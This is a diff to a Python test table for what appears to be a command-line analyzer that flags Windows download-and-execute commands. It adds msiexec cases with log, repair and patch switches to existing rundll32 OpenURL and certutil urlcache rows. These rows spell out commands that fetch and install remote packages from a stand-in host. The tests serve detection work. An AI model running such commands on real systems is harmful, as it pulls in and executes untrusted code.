@@ -554,6 +554,18 @@ DOWNLOADS: list[Row] = [
     ("rundll32-url", prog("rundll32", "url.dll,OpenURL", "http://x/a.hta"), {(DL, "http://x/a.hta")}),
     ("msiexec-url", prog("msiexec", "/i", "http://x/a.msi", "/q"), {(DL, "http://x/a.msi")}),
     ("msiexec-local", prog("msiexec", "/i", "C:\\a.msi"), {(EXEC, "C:\\a.msi")}),
+    # A log switch (`/l*v file`, `/log file`) takes a file that is not the package; `/jm`, `/ju` and `/fa` take it.
+    (
+        "msiexec-log-then-advertise",
+        prog("msiexec", "/l*v", "install.log", "/jm", "http://x/a.msi"),
+        {(DL, "http://x/a.msi")},
+    ),
+    ("msiexec-log-then-loose", prog("msiexec", "/log", "C:\\t\\l.txt", "http://x/a.msi"), {(DL, "http://x/a.msi")}),
+    ("msiexec-repair", prog("msiexec", "/fvomus", "http://x/a.msi"), {(DL, "http://x/a.msi")}),
+    # A patch runs code as a package does; a local one beside a remote package does not hide it.
+    ("msiexec-patch-url", prog("msiexec", "/update", "http://x/a.msp", "/qn"), {(DL, "http://x/a.msp")}),
+    ("msiexec-patch-and-package", prog("msiexec", "/p", "C:\\t\\x.msp", "http://x/a.msi"), {(DL, "http://x/a.msi")}),
+    ("msiexec-local-with-log", prog("msiexec", "/i", "C:\\a.msi", "/l*v", "C:\\t\\l.txt"), {(EXEC, "C:\\a.msi")}),
     (
         "certutil-urlcache",
         prog("certutil", "-urlcache", "-split", "-f", "http://x/a", "a.exe"),
